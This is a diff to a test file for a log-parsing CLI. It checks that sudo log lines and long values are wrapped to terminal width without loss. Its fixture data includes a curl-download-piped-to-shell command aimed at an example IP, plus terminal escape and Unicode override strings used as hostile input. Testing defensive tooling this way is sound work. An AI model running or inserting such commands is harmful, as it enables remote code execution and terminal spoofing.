@@ -2,6 +2,7 @@ import { writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import type { JsonObject } from '../../src/model/json.js';
+import { textWidth } from '../../src/report/text-width.js';
 import { jsonLines, runCommand } from '../helpers/run-cli.js';
 import { temporaryFolder } from '../helpers/temporary-folder.js';
 
@@ -126,7 +127,39 @@ describe('parse-line for people', () => {
         expect(line).not.toContain(i === 0 ? 'whoami' : '-c id');
   });
 
-  it('makes control characters visible and cuts to the width of the terminal', async () => {
+  it.each([40, 60, 80])(
+    'cuts nothing in %i columns: fields, rules and reasons are wrapped',
+    async (width) => {
+      const command = `/bin/bash -c "curl  http://203.0.113.7/${'a/'.repeat(40)}x.sh | sh" 日本語${'語'.repeat(40)}`;
+      const line = `Nov 20 10:00:00 web sudo[7]: bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=${command}`;
+      const whole = (await runCommand(['parse-line', '--now', NOW, line])).out;
+      const { out } = await runCommand(['parse-line', '--now', NOW, line], { outIsTty: true, width });
+      for (const row of out.split('\n')) expect(textWidth(row)).toBeLessThanOrEqual(width);
+      expect(out).not.toContain('…');
+      const unspaced = (text: string): string => text.replaceAll(/\s/g, '');
+      expect(unspaced(out)).toBe(unspaced(whole));
+      // What is wrapped stands below its beginning, and copied together it is what it was.
+      const rows = out.split('\n');
+      const at = rows.findIndex((row) => row.startsWith('process.command_line'));
+      const value = rows[at]!.indexOf('/bin/bash') >= 0 ? at : at + 1;
+      const column = rows[value]!.indexOf('/bin/bash');
+      let copied = rows[value]!.slice(column);
+      for (let i = value + 1; rows[i]!.startsWith(' '.repeat(column)); i++) copied += rows[i]!.slice(column);
+      expect(copied).toBe(command);
+    },
+  );
+
+  it('wraps a value of a MiB in no time', async () => {
+    const start = performance.now();
+    const { out } = await runCommand(['parse-line', `{"long":"${'é'.repeat(500_000)}"}`], {
+      outIsTty: true,
+      width: 40,
+    });
+    expect(out.match(/é/g)!.length).toBeGreaterThanOrEqual(500_000);
+    expect(performance.now() - start).toBeLessThan(5000);
+  });
+
+  it('makes control characters visible and keeps to the width of the terminal', async () => {
     const hostile = `evil \x1b]0;owned\x07 \u202e${'x'.repeat(300)}`;
     const { out } = await runCommand(['parse-line', hostile], { outIsTty: true, width: 60 });
     expect(out).toContain('\\x1b]0;owned\\x07');
